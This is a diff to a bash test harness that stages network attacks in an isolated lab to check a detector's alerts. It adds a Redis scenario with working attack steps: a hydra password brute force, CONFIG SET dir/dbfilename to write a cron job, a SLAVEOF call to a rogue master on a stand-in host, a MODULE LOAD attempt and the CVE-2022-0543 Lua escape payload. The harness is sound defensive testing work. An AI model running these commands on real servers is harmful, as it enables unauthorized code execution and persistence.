@@ -45,7 +45,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel dns-tunnel-short ldap-enum ldap-sealed ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ntlm-relay-far ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap mail-upload ftp-files mail-files mail-out intel-direct form-spray ws-tunnel socks external-proxy doh overpass ping-sweep named-pipe sip)
+  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay ntlm-relay-far ldap-recon crypto-mining cleartext-login form-login form-brute snmp mail-fetch mail-imap mail-upload ftp-files mail-files mail-out intel-direct form-spray ws-tunnel socks external-proxy doh overpass ping-sweep named-pipe sip redis)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -112,7 +112,7 @@ install_tools() {
     slapd:slapd ldapsearch:ldap-utils sshd:openssh-server ssh:openssh-client sshpass:sshpass hydra:hydra \
     arpspoof:dsniff atk6-parasite6:thc-ipv6 smbclient:smbclient smbd:samba nmbd:samba nmblookup:samba-common-bin python3:python3 ncat:ncat nc:netcat-openbsd curl:curl tcpdump:tcpdump \
     vsftpd:vsftpd aiosmtpd:python3-aiosmtpd busybox:busybox ethtool:ethtool ping:iputils-ping openssl:openssl impacket-rpcdump:python3-impacket \
-    snmpd:snmpd snmpget:snmp onesixtyone:onesixtyone dovecot:dovecot-imapd microsocks:microsocks dnsdist:dnsdist krb5kdc:krb5-kdc kadmin.local:krb5-admin-server kinit:krb5-user kamailio:kamailio svwar:sipvicious sipsak:sipsak; do
+    snmpd:snmpd snmpget:snmp onesixtyone:onesixtyone dovecot:dovecot-imapd microsocks:microsocks dnsdist:dnsdist krb5kdc:krb5-kdc kadmin.local:krb5-admin-server kinit:krb5-user kamailio:kamailio svwar:sipvicious sipsak:sipsak redis-server:redis-server redis-cli:redis-tools; do
     cmd=${pair%%:*}; pkg=${pair#*:}
     command -v "$cmd" >/dev/null 2>&1 || [ -x "/usr/sbin/$cmd" ] || need+=("$pkg")
   done
@@ -1751,6 +1751,65 @@ EOF2
     {"rule": "auth.bruteforce", "source": {"ip": "10.77.2.25"}, "destination": {"ip": "10.77.1.10", "port": 5060}, "evidence": {"service": "sip", "mode": "failures"}}]' \
     '  "exclusive": true,
   "allow": ["device.new", "auth.bruteforce"]'
+}
+
+scenario_redis() {
+  local i pass="Cache-Pass-2026" cli
+  # Redis 7.0 on the server 10.77.1.10 with a password; protected configs (dir, dbfilename) may be set
+  # at run time, as on the Redis 5 and 6 servers attackers usually find. MODULE stays disabled.
+  mkdir -p "$WORK/redis" "$WORK/redis-cron"
+  cat >"$WORK/redis/redis.conf" <<EOF2
+bind 10.77.1.10
+port 6379
+protected-mode no
+requirepass $pass
+enable-protected-configs yes
+dir $WORK/redis
+save ""
+appendonly no
+daemonize no
+EOF2
+  # In its own mount namespace the server sees the lab's folder as /var/spool/cron/crontabs (on a
+  # tmpfs over /var/spool): the attack below writes there, never to the host's cron.
+  cat >"$WORK/redis/run.sh" <<EOF2
+#!/bin/sh
+mount -t tmpfs -o mode=755 tmpfs /var/spool || exit 1
+mkdir -p /var/spool/cron/crontabs || exit 1
+mount --bind "$WORK/redis-cron" /var/spool/cron/crontabs || exit 1
+exec redis-server "$WORK/redis/redis.conf"
+EOF2
+  chmod +x "$WORK/redis/run.sh"
+  scen_bg srv unshare -m --propagation private "$WORK/redis/run.sh"
+  wait_listen srv 6379
+  cli="redis-cli -h 10.77.1.10 -p 6379 --no-auth-warning"
+  # The application server 10.77.2.22 signs in and works with its cache.
+  nsx ws22 timeout 10 $cli -a "$pass" SET session:42 '{"user":"jdoe"}' >/dev/null
+  nsx ws22 timeout 10 $cli -a "$pass" GET session:42 >/dev/null
+  nsx ws22 timeout 10 $cli -a "$pass" INCR hits >/dev/null
+  # 10.77.2.24 guesses the password with hydra: 30 words, none right.
+  for i in $(seq 1 30); do printf 'redis%02d\n' "$i"; done >"$WORK/redis-passwords.txt"
+  (cd "$WORK" && nsx ws24 timeout 120 hydra -I -P "$WORK/redis-passwords.txt" -t 4 redis://10.77.1.10 >"$WORK/logs/hydra-redis.txt" 2>&1) || true
+  # 10.77.2.26, holding the password, turns the server against itself: the database file moved into
+  # the cron folder (the lab's own folder, see above) with a job as its content, a rogue master on the Internet
+  # host, a module load and the Lua sandbox escape of CVE-2022-0543 (both refused by this server).
+  nsx ws26 timeout 10 $cli -a "$pass" CONFIG SET dir /var/spool/cron/crontabs >/dev/null
+  nsx ws26 timeout 10 $cli -a "$pass" CONFIG SET dbfilename root >/dev/null
+  nsx ws26 timeout 10 $cli -a "$pass" SET payload $'\n\n*/1 * * * * echo lab-job\n\n' >/dev/null
+  nsx ws26 timeout 10 $cli -a "$pass" SAVE >/dev/null
+  nsx ws26 timeout 10 $cli -a "$pass" SLAVEOF 198.51.100.10 6379 >/dev/null
+  nsx ws26 timeout 10 $cli -a "$pass" SLAVEOF NO ONE >/dev/null
+  nsx ws26 timeout 10 $cli -a "$pass" MODULE LOAD /tmp/exp.so >/dev/null 2>&1 || true
+  nsx ws26 timeout 10 $cli -a "$pass" EVAL 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res' 0 >/dev/null 2>&1 || true
+  stop_capture
+  grep -q "0 valid password" "$WORK/logs/hydra-redis.txt" || { log "redis: $(tail -n 3 "$WORK/logs/hydra-redis.txt")"; return 1; }
+  [ -s "$WORK/redis-cron/root" ] || { log "redis: the database file was not written to the cron folder"; return 1; }
+  require redis 30 "tcp dst port 6379 and src host 10.77.2.24 and tcp[tcpflags] & tcp-push != 0"
+  require redis 8 "tcp[tcpflags] == tcp-syn and src host 10.77.2.26 and dst port 6379"
+  expect redis "Redis 7.0 on the server 10.77.1.10 with a password (protected configs settable at run time; MODULE disabled). The application server 10.77.2.22 signs in and sets and reads keys. 10.77.2.24 runs hydra 9.4 with 30 wrong passwords. 10.77.2.26, with the password, moves the database file into a cron folder (CONFIG SET dir and dbfilename, a job as a value, SAVE: accepted), makes the server replicate from 198.51.100.10:6379 and stops it, tries MODULE LOAD and the CVE-2022-0543 Lua escape (both refused). device.new may fire for the server network's hosts, whose first frames these are." \
+    '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 6379}, "evidence": {"service": "redis", "mode": "failures"}},
+    {"rule": "redis.exploitation", "source": {"ip": "10.77.2.26"}, "destination": {"ip": "10.77.1.10", "port": 6379}, "evidence": {"accepted": true}}]' \
+    '  "exclusive": true,
+  "allow": ["device.new"]'
 }
 
 scenario_mail_fetch() {
